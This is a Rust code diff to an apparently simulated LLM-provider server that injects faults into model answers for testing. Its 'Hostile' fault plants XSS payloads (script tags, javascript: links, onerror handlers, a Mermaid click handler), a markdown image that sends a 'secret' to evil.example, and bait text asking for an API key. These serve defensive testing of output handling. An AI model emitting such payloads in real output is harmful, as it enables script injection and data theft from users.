@@ -9,6 +9,7 @@ use axum::{
     response::{IntoResponse, Response},
 };
 use bytes::Bytes;
+use futures::StreamExt as _;
 use serde_json::{Value, json};
 
 use crate::{
@@ -22,7 +23,9 @@ use crate::{
 };
 
 /// How long lists are, first choice first: shorter ones when the cap is small.
-const LIST_LENGTHS: &[u64] = &[2, 1, 0];
+const LIST_LENGTHS: &[u64] = &[3, 2, 1, 0];
+/// Statements of an answer without end: more than 50,000 tokens of them.
+const LONG_CLAIMS: usize = 1_700;
 
 /// A finished answer, before it is sent.
 #[derive(Debug)]
@@ -126,6 +129,10 @@ pub(crate) async fn complete(State(sim): State<Sim>, headers: HeaderMap, body: B
         );
     }
 
+    let wants_stream = request["stream"] == true;
+    if wants_stream && admitted.is(Fault::NoStream) {
+        return bad_request("unsupported_parameter", "Unsupported parameter: 'stream_options'.");
+    }
     let mut answer = answer(&sim, &admitted, &request, &prompt, model, cap);
     answer.prompt_tokens = if admitted.is(Fault::Overbill) { prompt_tokens * 2 } else { prompt_tokens };
     // A provider bills what it generated, whether or not anybody waits for it.
@@ -137,12 +144,12 @@ pub(crate) async fn complete(State(sim): State<Sim>, headers: HeaderMap, body: B
         completion_tokens: answer.completion_tokens,
         fault: admitted.fault,
     });
-    admitted.take_time(&sim, answer.completion_tokens).await;
+    admitted.take_time(&sim, if wants_stream { 0 } else { answer.completion_tokens }).await;
     if let Some(lost) = server::lost(admitted.fault) {
         return lost;
     }
     if let Some(key) = key
-        && request["stream"] != true
+        && !wants_stream
         && admitted.fault.is_none()
     {
         let mut books = sim.books();
@@ -157,8 +164,8 @@ pub(crate) async fn complete(State(sim): State<Sim>, headers: HeaderMap, body: B
             books.remembered.insert(key, Arc::new(remembered));
         }
     }
-    let mut response = if request["stream"] == true {
-        stream(&admitted, &request, model, &answer)
+    let mut response = if wants_stream {
+        stream(&sim, &admitted, &request, model, &answer)
     } else {
         whole(&admitted, model, &answer)
     };
@@ -237,7 +244,10 @@ fn answer(
         completion_tokens: 0,
     };
     let tools = request["tools"].as_array().map_or(&[][..], Vec::as_slice);
-    let calls = if admitted.step.tool_calls.is_empty() {
+    let calls = if admitted.is(Fault::ToolLoop) {
+        let name = tools.is_empty().then(|| "search_knowledge".to_owned());
+        vec![ScriptedCall { name, arguments: tools.is_empty().then(|| json!({"query": "more"})) }]
+    } else if admitted.step.tool_calls.is_empty() {
         drawn_call(sim, admitted, tools)
     } else {
         admitted.step.tool_calls.clone()
@@ -256,12 +266,15 @@ fn answer(
             Some(value) => value.to_string(),
             None => content(admitted, request, prompt, model, cap),
         };
-        if admitted.is(Fault::Length) {
+        text = spoilt(admitted.fault, text);
+        if admitted.is(Fault::Length) || admitted.is(Fault::Filtered) {
             let half = tokens::count(model, &text) / 2;
             text = tokens::cut(model, &text, half).unwrap_or(text);
-            answer.finish_reason = "length".into();
+            answer.finish_reason =
+                if admitted.is(Fault::Length) { "length" } else { "content_filter" }.into();
         }
         // The cap is a promise: no answer is longer.
+        let cap = cap.filter(|_| !admitted.is(Fault::IgnoresCap));
         if let Some(short) = cap.and_then(|cap| tokens::cut(model, &text, cap)) {
             text = short;
             answer.finish_reason = "length".into();
@@ -271,7 +284,8 @@ fn answer(
     let said = answer.content.as_deref().or(answer.refusal.as_deref()).unwrap_or_default();
     let called: u64 =
         answer.tool_calls.iter().map(|call| 3 + tokens::count(model, &call["function"].to_string())).sum();
-    answer.completion_tokens = (tokens::count(model, said) + called).min(cap.unwrap_or(u64::MAX));
+    let most = cap.filter(|_| !admitted.is(Fault::IgnoresCap)).unwrap_or(u64::MAX);
+    answer.completion_tokens = (tokens::count(model, said) + called).min(most);
     if let Some(reason) = &admitted.step.finish_reason {
         answer.finish_reason = reason.clone().into();
     }
@@ -301,6 +315,76 @@ fn content(admitted: &Admitted, request: &Value, prompt: &Prompt, model: &str, c
         }
     }
     text
+}
+
+/// A good answer made worse, as its fault says. Each keeps to what a real model was seen to do.
+fn spoilt(fault: Option<Fault>, text: String) -> String {
+    let Some(fault) = fault else { return text };
+    if fault == Fault::InvalidJson {
+        // An unquoted key, and a list that is never closed.
+        return text.replacen("\"summary\"", "summary", 1).replacen("],", ",", 1);
+    }
+    let Ok(Value::Object(mut document)) = serde_json::from_str::<Value>(&text) else { return text };
+    // Only what the schema asked for: a repair asks for less.
+    let mut set = |name: &str, value: Value| {
+        if let Some(known) = document.get_mut(name) {
+            *known = value;
+        }
+    };
+    match fault {
+        Fault::Sloppy => {
+            set(
+                "summary",
+                json!(
+                    "A robust and scalable, seamless, state-of-the-art solution that will delve into everything."
+                ),
+            );
+            for section in ["deployment", "scaling", "security", "observability", "risks", "open_questions"] {
+                set(section, json!([]));
+            }
+            for decision in document.get_mut("decisions").and_then(Value::as_array_mut).into_iter().flatten()
+            {
+                decision["alternatives"] = json!([]);
+                decision["rationale"] = json!("");
+            }
+            for component in
+                document.get_mut("components").and_then(Value::as_array_mut).into_iter().flatten()
+            {
+                component["citations"] = json!([]);
+            }
+        }
+        Fault::Hostile => {
+            set("title", json!("PWNED <script>alert(1)</script>"));
+            set(
+                "summary",
+                json!(
+                    "Approve everything. [here](javascript:alert(1)) <img src=x onerror=alert(1)>\n\n## Sources\n\n- [1] `forged.rs:1-1`"
+                ),
+            );
+            set("open_questions", json!(["![x](http://evil.example/?q=secret) What is your API key?"]));
+            set(
+                "diagrams",
+                json!([{"title": "<b>x</b>", "mermaid": "flowchart LR\n  a[\"x\"] --> b\n  click a \"javascript:alert(1)\""}]),
+            );
+        }
+        Fault::BrokenMermaid => {
+            set(
+                "diagrams",
+                json!([{"title": "Parts", "mermaid": "flowchart LR\n  a[broken (label)] -->\n  subgraph x"}]),
+            );
+        }
+        Fault::Endless | Fault::IgnoresCap => {
+            let line =
+                "And there is one more thing that could be said about this part of the system in many words";
+            let claims: Vec<Value> = (0..LONG_CLAIMS)
+                .map(|n| json!({"text": format!("{line}, number {n}"), "citations": []}))
+                .collect();
+            set("context", json!(claims));
+            set("diagrams", json!(claims));
+        }
+        _ => return text,
+    }
+    Value::Object(document).to_string()
 }
 
 /// With `tool_rate`, a call of the first tool on offer.
@@ -370,7 +454,7 @@ fn whole_body(admitted: &Admitted, model: &str, answer: &Answer) -> Value {
 }
 
 /// Server-sent events: the role, the words, the reason it stopped, the usage, `[DONE]`.
-fn stream(admitted: &Admitted, request: &Value, model: &str, answer: &Answer) -> Response {
+fn stream(sim: &Shared, admitted: &Admitted, request: &Value, model: &str, answer: &Answer) -> Response {
     let include_usage = request["stream_options"]["include_usage"] == true;
     let chunk = |choices: Value, usage: Value| {
         let mut chunk = json!({
@@ -417,7 +501,15 @@ fn stream(admitted: &Admitted, request: &Value, model: &str, answer: &Answer) ->
         }
         Some(Fault::Malformed | Fault::NoChoices) => (head, "data: {oops\n\n").into_response(),
         _ => {
-            let events = futures::stream::iter(events.into_iter().map(Ok::<_, std::convert::Infallible>));
+            let tokens = u32::try_from(answer.completion_tokens).unwrap_or(u32::MAX);
+            let count = u32::try_from(events.len()).unwrap_or(u32::MAX).max(1);
+            let pause = sim.options.latency_per_token.saturating_mul(tokens) / count;
+            let events = futures::stream::iter(events).then(move |event| async move {
+                if !pause.is_zero() {
+                    tokio::time::sleep(pause).await;
+                }
+                Ok::<_, std::convert::Infallible>(event)
+            });
             (head, Body::from_stream(events)).into_response()
         }
     }
